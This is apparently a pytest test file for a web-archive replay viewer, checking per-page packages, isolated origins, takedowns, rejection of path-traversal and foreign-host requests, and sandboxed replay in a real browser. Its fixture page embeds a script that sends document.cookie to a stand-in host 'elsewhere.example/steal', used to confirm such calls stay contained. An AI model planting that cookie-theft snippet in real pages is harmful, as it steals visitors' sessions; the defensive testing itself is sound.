"""The viewer's origin: its files, the package of one page, and nothing else; and the real program where it is."""

from __future__ import annotations

import contextlib
import re
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest

from archive.catalogue.blocking import Target
from archive.clock import parse_warc_date
from archive.exchange import Exchange, Origin, Role
from archive.removal.takedown import lift, take_down
from archive.replay import viewer
from archive.replay.listening import bound, server
from archive.replay.service import Service
from archive.replay.settings import Settings
from archive.replay.viewing import Packages, viewing, viewing_application
from archive.store import Archive

SITE = "https://loud.example"
STORY, OTHER = f"{SITE}/story", f"{SITE}/other"
_TIMES = ("2026-11-01T09:00:00Z", "2026-11-02T09:00:00Z", "2026-11-03T09:00:00Z")
_PAGE = """<!doctype html><html><head><link rel="stylesheet" href="/loud.css"><script src="/loud.js"></script></head>
<body><h1>Edition {}</h1><p id="said">not yet</p>
<script>
fetch("https://elsewhere.example/steal?" + document.cookie).catch(() => 0);
new Image().src = "https://elsewhere.example/pixel.png";
</script></body></html>"""
_SCRIPT = 'addEventListener("load", () => { document.getElementById("said").textContent = "a script ran"; });'


def _exchange(url: str, at: str, body: str, mime: str = "text/html", role: Role = Role.ARTICLE) -> Exchange:
    payload = body.encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {mime}\r\nContent-Length: {len(payload)}\r\n\r\n".encode()
    origin = Origin(site="loud.example", role=role, via=STORY, source="front", hops="L")
    asked = b"GET / HTTP/1.1\r\nHost: loud.example\r\n\r\n"
    return Exchange(url=url, at=parse_warc_date(at), request=asked, response=head + payload, origin=origin)


@pytest.fixture
def path(tmp_path: Path) -> Path:
    with Archive.create(tmp_path / "NEWS", contact="tests@example.org") as archive, archive.writer("crawl") as writer:
        for number, at in enumerate(_TIMES, 1):
            writer.add(_exchange(STORY, at, _PAGE.format(number)))
        writer.add(_exchange(f"{SITE}/loud.js", "2026-10-01T09:00:00Z", _SCRIPT, "text/javascript", Role.REQUISITE))
        sheet = "h1 { background: url(red.png) }"
        writer.add(_exchange(f"{SITE}/loud.css", "2026-10-01T09:00:01Z", sheet, "text/css", Role.REQUISITE))
        writer.add(_exchange(f"{SITE}/red.png", "2026-10-01T09:00:02Z", "PNG", "image/png", Role.REQUISITE))
        writer.add(_exchange(OTHER, "2026-10-01T09:00:03Z", _PAGE.format("nobody asked for")))
    return tmp_path / "NEWS"


@dataclass(frozen=True)
class Viewing:
    url: str
    client: httpx.Client
    packages: Packages

    def get(self, path: str, **headers: str) -> httpx.Response:
        return self.client.get(self.url + path, headers=headers)

    def package(self, url: str, at: str = _TIMES[0]) -> str:
        return f"/packages/{self.packages.name(url, parse_warc_date(at))}"


@contextlib.contextmanager
def served(path: Path, folder: Path) -> Iterator[Viewing]:
    socket = bound("127.0.0.1", 0)
    port, packages = socket.getsockname()[1], Packages()
    with Archive.open(path) as archive:
        service = Service(archive, Settings(port=port, token="a token that the viewer does not ask for"))
        running = server(viewing_application(service, packages, folder))
        thread = threading.Thread(target=running.run, args=([socket],))
        thread.start()
        try:
            while not running.started:
                time.sleep(0.005)
            with httpx.Client(timeout=20) as client:
                yield Viewing(f"http://127.0.0.1:{port}", client, packages)
        finally:
            running.should_exit = True
            thread.join(20)
            for end in service.at_end:
                end()


@pytest.fixture
def site(path: Path, tmp_path: Path) -> Iterator[Viewing]:
    """With files of a written package."""
    folder = tmp_path / "viewer"
    folder.mkdir()
    for name in viewer.KNOWN.files:
        (folder / name).write_text(f"this is {name}")
    with served(path, folder) as it:
        yield it


def _urls(body: bytes, tmp_path: Path) -> set[str]:
    (tmp_path / "it.wacz").write_bytes(body)
    with zipfile.ZipFile(tmp_path / "it.wacz") as package:
        names = [name for name in package.namelist() if name.startswith("archive/")]
        import gzip

        text = b"".join(gzip.decompress(package.read(name)) for name in names).decode("latin-1")
    return set(re.findall(r"WARC-Target-URI: (\S+)", text))


def test_a_package_holds_the_page_and_what_belongs_to_it(site: Viewing, tmp_path: Path) -> None:
    answer = site.get(site.package(STORY))
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/wacz"
    held = _urls(answer.content, tmp_path)
    assert held == {STORY, f"{SITE}/loud.js", f"{SITE}/loud.css", f"{SITE}/red.png"}
    part = site.get(site.package(STORY), range="bytes=0-3")
    assert (part.status_code, part.content) == (206, b"PK\x03\x04")


def test_only_packages_that_were_named_can_be_had(site: Viewing) -> None:
    name = site.package(STORY)
    for other in (
        name[:-6] + "0.wacz",
        name.replace(".", "A.", 1),
        "/packages/x.wacz",
        "/packages/..%2fui.js",
        "/packages/é",
    ):
        assert site.get(other).status_code == 404
    assert Packages().name(STORY, 1) != site.packages.name(STORY, 1), "each process has a secret of its own"


def test_each_package_has_an_origin_of_its_own(site: Viewing) -> None:
    at = parse_warc_date(_TIMES[0])
    own, other = (f"{site.packages.label(url, at)}.localhost" for url in (STORY, OTHER))
    assert own != other
    assert site.get(site.package(STORY), host=own).status_code == 200
    assert site.get(site.package(STORY), host=other).status_code == 404
    assert site.get("/", host=own).headers.get("clear-site-data") is None
    assert site.get("/").headers["clear-site-data"] == '"storage"', "where pages share an origin"
    assert site.get("/", host="px.localhost").status_code == 421
    assert viewing(site.packages, "https://archive.example:8323")(STORY, at).startswith(
        "https://archive.example:8323/?"
    )


def test_what_is_taken_down_goes_out_of_packages_that_are_there(site: Viewing, path: Path, tmp_path: Path) -> None:
    assert f"{SITE}/red.png" in _urls(site.get(site.package(STORY)).content, tmp_path)
    with Archive.open(path) as archive:
        for url in (f"{SITE}/red.png",):
            take_down(archive, Target.of(url), given=url, reason="asked for")
    assert f"{SITE}/red.png" not in _urls(site.get(site.package(STORY)).content, tmp_path)
    with Archive.open(path) as archive:  # as many captures are blocked as before, but others
        lift(archive, Target.of(f"{SITE}/red.png"), given=SITE, reason="asked for")
        take_down(archive, Target.of(f"{SITE}/loud.css"), given=SITE, reason="asked for")
    assert f"{SITE}/loud.css" not in _urls(site.get(site.package(STORY)).content, tmp_path)
    with Archive.open(path) as archive:
        take_down(archive, Target.of(STORY), given=STORY, reason="asked for")
    assert site.get(site.package(STORY)).status_code == 451


def test_its_files_and_no_others(site: Viewing) -> None:
    assert "replay-app-main" in site.get("/").text
    for name in viewer.KNOWN.files:
        answer = site.get(f"/{name}")
        assert answer.text == f"this is {name}"
        assert "connect-src 'self'" in answer.headers["content-security-policy"], "of its worker, too"
    for name in (
        "/LICENSES",
        "/../secret",
        "/%2e%2e/secret",
        "/article?url=x",
        "/web/20261101000000/https://loud.example/",
    ):
        assert site.get(name).status_code == 404
    assert site.client.post(f"{site.url}/").status_code == 405
    assert site.get("/", host="evil.example").status_code == 421
    assert site.get("/sw.js", **{"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors"}).status_code == 403


def test_an_address_leads_to_the_page_at_its_time() -> None:
    packages = Packages()
    address = viewing(packages, "http://127.0.0.1:8323")(STORY, parse_warc_date(_TIMES[1]))
    parts = urlsplit(address)
    (source,) = parse_qs(parts.query)["source"]
    assert packages.meant(source.rpartition("/")[2]) == (STORY, parse_warc_date(_TIMES[1]))
    assert parse_qs(parts.fragment) == {"view": ["pages"], "url": [STORY], "ts": ["20261102090000"]}


@pytest.mark.slow
def test_each_edition_is_replayed_by_the_real_program(path: Path) -> None:
    """Where 'presskeep viewer install' was run: its scripts run, and nothing is asked of anybody else."""
    playwright = pytest.importorskip("playwright.sync_api")
    from crawler.drawing.chromium import find

    folder = viewer.installed()
    if folder is None:
        pytest.skip("ReplayWeb.page is not installed")
    with served(path, folder) as site, playwright.sync_playwright() as driver:
        found: list[int] = []
        browser = driver.chromium.launch(executable_path=str(find()), args=["--no-sandbox"])
        context = browser.new_context()  # one for all: what they leave in the browser is not for each other
        for number, at in enumerate(_TIMES, 1):
            page = context.new_page()
            asked: list[str] = []
            page.on("request", lambda request, asked=asked: asked.append(request.url))
            page.goto(viewing(site.packages, site.url)(STORY, parse_warc_date(at)))
            frame = page.frame_locator("iframe")
            frame.get_by_text("a script ran").wait_for(timeout=30_000)
            assert frame.locator("h1").inner_text() == f"Edition {number}"
            assert any("elsewhere.example" in one for one in asked), "it did call out"
            own = f"http://{site.packages.label(STORY, parse_warc_date(at))}.localhost:{urlsplit(site.url).port}/"
            assert not [one for one in asked if not one.startswith((own, "data:", "blob:"))]
            known = page.evaluate("async () => (await indexedDB.databases()).map(one => one.name)")
            found.append(len(known))
        assert found[0] >= 2, "its list of packages, and the package"
        assert found == [found[0]] * 3, "and none of those before"
        browser.close()
